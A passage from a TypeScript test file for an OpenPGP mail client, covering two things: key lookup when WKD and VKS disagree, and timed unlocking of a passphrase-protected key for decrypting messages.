  const erinVks = await make('Erin Other', 'erin@lookup.example');
  const armor = async (fpr: string) => Buffer.from((await bob.client.call('keys.export', { query: fpr })).armored);
  directory.set('openpgpkey.lookup.example/.well-known/openpgpkey/lookup.example/hu/', await armor(erinWkd.fingerprint));
  directory.set('keys.openpgp.org/vks/v1/by-email/erin%40lookup.example', await armor(erinVks.fingerprint));
  try {
    const disagree = ok<{ found: Array<{ source: string }>; imported: KeySummary[]; offline: boolean; disagreement: unknown }>(
      await dispatch('keys.lookup', { email: 'erin@lookup.example', import: true, onAdd: true }),
    );
    assert.deepEqual(disagree.found.map((f) => f.source).sort(), ['vks', 'wkd'], 'the keyring and Autocrypt steps are not asked');
    assert.deepEqual(disagree.imported, []);
    assert.equal(disagree.offline, false);
    assert.deepEqual(
      disagree.disagreement,
      [
        { fingerprint: erinWkd.fingerprint, from: ['wkd'] },
        { fingerprint: erinVks.fingerprint, from: ['vks https://keys.openpgp.org'] },
      ],
      "each key with the source that named it, in the pipeline's order",
    );
    failure(await dispatch('keys.show', { query: erinWkd.fingerprint }), 'key-not-found');
    failure(await dispatch('keys.show', { query: erinVks.fingerprint }), 'key-not-found');

    const offline = ok<{ imported: KeySummary[]; offline: boolean; disagreement: unknown }>(
      await dispatch('keys.lookup', { email: 'fred@offline.example', import: true, onAdd: true }),
    );
    assert.deepEqual([offline.imported, offline.offline, offline.disagreement], [[], true, null]);
  } finally {
    directory.clear();
  }
});

test("session.unlock: for the settings' time; then a message to the locked key reads without any passphrase", async () => {
  const PASS = 'locked key passphrase';
  const locked = ok<KeySummary>(
    await dispatch('keys.generate', { name: 'Alice Work', email: 'alice.work@app.example', expiresInSeconds: null, passphrase: PASS }),
  );
  await exchange(keyring, locked.fingerprint, bob);
  const raw = await fromBob(
    {
      to: [{ name: '', address: 'alice.work@app.example' }],
      subject: 'to the locked key',
      text: 'LOCKED-SECRET\n',
      html: '<p>LOCKED-HTML</p>',
    },
    { encrypt: true, sign: true },
  );
  const uid = store(raw);

  const before = await read(uid);
  assert.equal(before.report.encryption.status, 'no-key');
  assert.ok(before.report.warnings.some((w) => w.code === 'needs-passphrase'));
  assert.deepEqual(before.report.encryption.lockedKeys, [locked.fingerprint], 'the locked key named as data, not in the warning text');
  assert.equal(before.html, null);
  assert.ok(!before.report.text.includes('LOCKED-SECRET'));

  ok(await dispatch('settings.set', { unlockMinutes: 7 }));
  failure(await dispatch('session.unlock', { fingerprint: locked.fingerprint, passphrase: 'wrong' }), 'key-wrong-passphrase');
  const started = Date.now();
  const { expiresAt } = ok<{ expiresAt: number }>(await dispatch('session.unlock', { fingerprint: locked.fingerprint, passphrase: PASS }));
  assert.ok(
    expiresAt >= started + 7 * 60_000 - 1000 && expiresAt <= Date.now() + 7 * 60_000 + 1000,
    `expires in 7 minutes: ${expiresAt - started}`,
  );

  const after = await read(uid);
  assert.equal(after.report.encryption.status, 'decrypted');
  assert.match(after.report.text, /LOCKED-SECRET/);
  assert.equal(after.html, '<p>LOCKED-HTML</p>');

  ok(await dispatch('session.lock', { fingerprint: locked.fingerprint }));
  assert.equal((await read(uid)).report.encryption.status, 'no-key', 'locked again');
});
